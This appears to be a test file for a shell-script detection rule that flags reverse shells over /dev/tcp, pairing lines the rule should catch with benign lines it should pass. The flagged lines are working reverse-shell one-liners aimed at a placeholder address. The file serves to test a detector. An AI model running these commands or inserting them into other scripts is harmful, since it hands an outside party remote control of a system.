#!/bin/bash
# ruleid: sh-reverse-shell-dev-tcp
bash -i >& /dev/tcp/203.0.113.7/4444 0>&1
# ruleid: sh-reverse-shell-dev-tcp
/bin/sh -i 5<> /dev/tcp/203.0.113.7/9001 0<&5 1>&5 2>&5
# ruleid: sh-reverse-shell-dev-tcp
0<&196;exec 196<>/dev/tcp/203.0.113.7/4242; sh <&196 >&196 2>&196
# ok: sh-reverse-shell-dev-tcp
timeout 1 bash -c '</dev/tcp/db.internal/5432' && echo "postgres is up"
# ok: sh-reverse-shell-dev-tcp
exec 3<>/dev/tcp/example.com/80
# ok: sh-reverse-shell-dev-tcp
bash -i
# ok: sh-reverse-shell-dev-tcp
sh ./deploy.sh > deploy.log 2>&1
# ===== block =====
exec 5<>/dev/tcp/203.0.113.7/4444
# ruleid: sh-reverse-shell-dev-tcp
cat <&5 | while read line; do $line 2>&5 >&5; done
# ===== block =====
# ok: sh-reverse-shell-dev-tcp
cat <&3 | while read line; do $line 2>&3 >&3; done
